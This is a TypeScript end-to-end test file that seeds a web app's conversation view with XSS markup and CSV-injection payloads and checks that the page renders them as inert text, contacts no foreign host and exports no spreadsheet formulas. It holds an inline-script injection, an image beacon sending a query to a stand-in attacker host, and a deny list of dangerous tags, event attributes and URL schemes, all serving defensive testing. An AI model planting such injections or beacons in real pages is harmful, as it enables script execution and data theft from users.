/// <reference lib="dom" />
import { readFile } from 'node:fs/promises';
import type { Firestore } from '@google-cloud/firestore';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sampleRecord, sampleResult } from '../functions/src/export/testing/sample-record.ts';
import { toFields } from '../functions/src/store/documents.ts';
import { conversationRef, turnRef } from '../functions/src/store/paths.ts';
import { createAdmin } from '../local/firestore/testing/admin-client.ts';
import { projectId } from '../local/project.ts';
import { holdAttackCounts } from '../reliability/attacks/attack-report.ts';
import { csvPayloads, havePublished, markupPayloads } from '../reliability/attacks/payloads.ts';
import { toBatches } from '../reliability/attacks/tool-calls.ts';
import { launchBrowser, signIn } from './person.ts';
import { type StartedStack, startStack } from './start-stack.ts';

// Whatever a document holds, the page draws it as text. The payloads are written into every field that is drawn, past the
// functions: as if a model, a cell or another system had sent them and nothing before the page had stopped them.
const conversationId = 'conversation-of-attacks-0000';
const batches = toBatches([...markupPayloads, ...csvPayloads], 60);

/** What happened in the page that must not. */
type Watch = { dialogs: string[]; foreign: string[]; violations: string[]; errors: string[] };

describe('documents that attack the page', () => {
  let stack: StartedStack;
  let browser: Browser;
  let page: Page;
  let db: Firestore;
  const watch: Watch = { dialogs: [], foreign: [], violations: [], errors: [] };
  beforeAll(async () => {
    stack = await startStack({ DEMO_SCALE: '0.02' });
    db = createAdmin(
      { host: '127.0.0.1', port: Number(new URL(stack.origins.firestore).port), close: async () => {} },
      projectId,
    );
    browser = await launchBrowser();
    ({ page } = await signIn(browser, stack.url, 'analyst'));
    const [user] = (await db.collection('users').get()).docs;
    await writeConversation(db, user?.id ?? '');
    const own = new Set(Object.values(stack.origins).map((origin) => new URL(origin).host));
    page.on('dialog', (dialog) => {
      watch.dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on('request', (request) => {
      const { protocol, host } = new URL(request.url());
      const local = protocol === 'data:' || protocol === 'blob:' || own.has(host);
      if (!local) watch.foreign.push(request.url());
    });
    page.on('console', (message) => {
      if (/Content Security Policy|refused to/i.test(message.text())) watch.violations.push(message.text());
    });
    page.on('pageerror', (error) => watch.errors.push(error.message));
  });
  afterAll(async () => {
    await db?.terminate();
    await browser?.close();
    await stack?.close();
  });

  it('run no script, reach no other host and add no element, in any field of any shape', async () => {
    await page.goto(`${stack.url}/c/${conversationId}`);
    const log = page.getByRole('log', { name: 'Messages' });
    await log.getByText(`question ${batches.length - 1}`).waitFor();
    const figures = page.getByRole('region', { name: 'Visualizations' }).getByRole('figure');
    await figures.first().waitFor();
    expect(await log.getByText(/^question \d+ /).count()).toBe(batches.length);
    expect(await figures.count()).toBe(3 * batches.length);
    const elements = await listHarmful(page);
    await page.evaluate(async () => {
      for (const element of document.querySelectorAll('[role=log] p, figure')) {
        element.scrollIntoView();
        await new Promise((resolve) => setTimeout(resolve, 5));
      }
    });
    for (const figure of await figures.all()) {
      const asTable = figure.getByRole('button', { name: 'Show as table' });
      if ((await asTable.count()) > 0) await asTable.first().click();
    }
    elements.push(...(await listHarmful(page)));
    // The payloads are there to be read, as text.
    const text = await page.locator('body').innerText();
    expect(text).toContain('<script>window.attacked=1</script>');
    expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
    expect(watch).toEqual({ dialogs: [], foreign: [], violations: [], errors: [] });
    expect(elements).toEqual([]);
    expect(new URL(page.url()).origin).toBe(stack.url);
    if (!havePublished) return;
    holdAttackCounts('markup in every field that the page draws', {
      tried: batches.flat().length * fieldsWithAll,
      ...{
        leaked: watch.foreign.length,
        changed: null,
        executed: elements.length + watch.dialogs.length,
        unaudited: null,
      },
    });
  });

  it('leave no formula in a CSV file, and keep negative numbers numbers', async () => {
    await page.goto(`${stack.url}/c/${conversationId}`);
    const button = page.getByRole('button', { name: 'Export CSV' });
    await button.waitFor();
    const [download] = await Promise.all([page.waitForEvent('download'), button.click()]);
    const csv = await readFile(await download.path(), 'utf8');
    const cells = readCells(csv.replace('\ufeff', ''));
    const formulas = cells.filter(({ text, quoted }) => quoted && /^[\s\u200b]*[=+\-@\t\r]/.test(text));
    expect(formulas.slice(0, 3)).toEqual([]);
    expect(cells).toContainEqual({ text: '-12.5', quoted: false });
    if (!havePublished) return;
    holdAttackCounts('formulas in exported CSV files', {
      ...{
        tried: batches.flat().length,
        leaked: null,
        changed: null,
        executed: formulas.length,
        unaudited: null,
      },
    });
  });

  it('are stopped by the content security policy where they got through, and the browser reports it', async () => {
    const reports = () =>
      stack.functionLog.filter((line) => line.includes('Content security policy violated'));
    expect(reports()).toEqual([]);
    await page.evaluate(() => {
      new Image().src = 'https://evil.example/pixel.png?q=stock';
      const script = document.createElement('script');
      script.textContent = 'window.attacked = 1';
      document.body.append(script);
    });
    await expect.poll(() => reports().length, { timeout: 10_000 }).toBe(2);
    const text = reports().join();
    expect(text).toContain('"directive":"img-src","blocked":"https://evil.example/pixel.png"');
    expect(text).toContain('"directive":"script-src-elem","blocked":"inline"');
    expect(text).not.toContain('q=stock');
    expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
  });
});

/** Elements and attributes that nothing in a conversation may become. */
function listHarmful(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const regions = [...document.querySelectorAll('[role=log], [role=region], section, nav, main')];
    const inside = new Set(regions.flatMap((region) => [...region.querySelectorAll('*')]));
    const tags = new Set([
      'SCRIPT',
      'IFRAME',
      'OBJECT',
      'EMBED',
      'IMG',
      'LINK',
      'META',
      'BASE',
      'FORM',
      'VIDEO',
      'AUDIO',
      'MARQUEE',
      'STYLE',
    ]);
    const isHarmful = (element: Element) =>
      (tags.has(element.tagName) && !(element.tagName === 'FORM' && element.querySelector('textarea'))) ||
      element.getAttributeNames().some((name) => name.startsWith('on')) ||
      /^\s*(javascript|data|vbscript):/i.test(element.getAttribute('href') ?? '') ||
      (element.tagName === 'A' &&
        new URL(element.getAttribute('href') ?? '', location.href).origin !== location.origin);
    return [...inside].filter(isHarmful).map((element) => element.outerHTML.slice(0, 200));
  });
}

/** Cells of a CSV file as RFC 4180 has them. */
function readCells(csv: string): { text: string; quoted: boolean }[] {
  const cells = csv.matchAll(/"((?:[^"]|"")*)"|([^",\r\n]+)/g);
  return [...cells].map(([, quoted, plain]) => ({
    text: quoted?.replaceAll('""', '"') ?? plain ?? '',
    quoted: quoted !== undefined,
  }));
}

/** The text and the cells hold every payload; question, steps, error, titles, headings, filters, SQL and so on hold some. */
const fieldsWithAll = 2;

async function writeConversation(db: Firestore, uid: string): Promise<void> {
  const [sample] = sampleRecord([]).turns;
  if (sample === undefined) throw new Error('The sample has no turn');
  const now = Date.now();
  const expiresAt = new Date(now + 86_400_000);
  const title = markupPayloads[1] ?? '';
  const { conversation } = sampleRecord([]);
  await conversationRef(db, { uid, conversationId }).set(
    toFields({
      ...conversation,
      conversationId,
      title,
      turnCount: batches.length,
      lastAccessedAt: new Date(now),
      expiresAt,
    }),
  );
  for (const [index, payloads] of batches.entries()) {
    const key = { uid, conversationId, turnId: `turn-of-attacks-${index}-00000` };
    const at = new Date(now - 60_000 * (batches.length - index));
    const first = (length: number) => (payloads[index % payloads.length] ?? '').slice(0, length) || 'x';
    const result = sampleResult([], { title: first(120), sql: payloads.join('\n'), jobId: first(60) });
    const rows = payloads.map((payload, row) => [payload, row === 0 ? -12.5 : row, true]);
    const scope = {
      ...result.scope,
      filters: payloads.slice(0, 20),
      warehouses: { all: false, ids: [first(60)], names: payloads.slice(20, 30) },
    };
    const columns = result.columns.map((column) => ({ ...column, label: `${column.name} ${first(80)}` }));
    const step = {
      id: 's1',
      tool: first(60),
      startedAt: at,
      finishedAt: at,
      resultId: 'r1',
      rows: 1,
      bytes: 1,
      priceUsd: 0,
    };
    const visualization = { title: first(120), resultId: 'r1' };
    const turn = {
      ...sample.turn,
      ...key,
      question: `question ${index} ${payloads.join(' ').slice(0, 3_000)}`,
      status: index % 3 === 0 ? 'failed' : 'completed',
      error: index % 3 === 0 ? { code: 'internal', message: first(300) } : null,
      steps: [
        { ...step, title: first(200), status: 'done', message: null },
        {
          ...step,
          id: 's2',
          title: payloads.join(' ').slice(0, 500),
          status: 'failed',
          message: payloads.join(' ').slice(0, 2_000),
        },
      ],
      text: payloads.join('\n\n'),
      visualizations: [
        { ...visualization, id: 'v1', shape: 'table', columns: ['Product', 'Revenue'] },
        {
          ...visualization,
          id: 'v2',
          shape: 'chart',
          mark: 'bar',
          x: 'Product',
          y: ['Revenue'],
          series: null,
        },
        { ...visualization, id: 'v3', shape: 'metric', value: 'Revenue', compareTo: null },
      ],
      scopes: [scope],
      usage: {
        model: first(60),
        rounds: 1,
        toolCalls: 2,
        inputTokens: 1,
        outputTokens: 1,
        thoughtTokens: 0,
        cachedTokens: 0,
        bytesProcessed: 1,
        priceUsd: 0,
      },
      ...{ askedAt: at, deadlineAt: at, finishedAt: at, expiresAt },
    };
    const { rows: _, ...kept } = result;
    const ref = turnRef(db, key);
    await ref.set(toFields(turn));
    await ref
      .collection('results')
      .doc('r1')
      .set(
        toFields({
          ...kept,
          columns,
          scope,
          rowsJson: JSON.stringify(rows),
          rowCount: rows.length,
          partCount: 1,
          parameters: { x: { type: 'STRING', value: first(200) } },
          expiresAt,
        }),
      );
  }
}
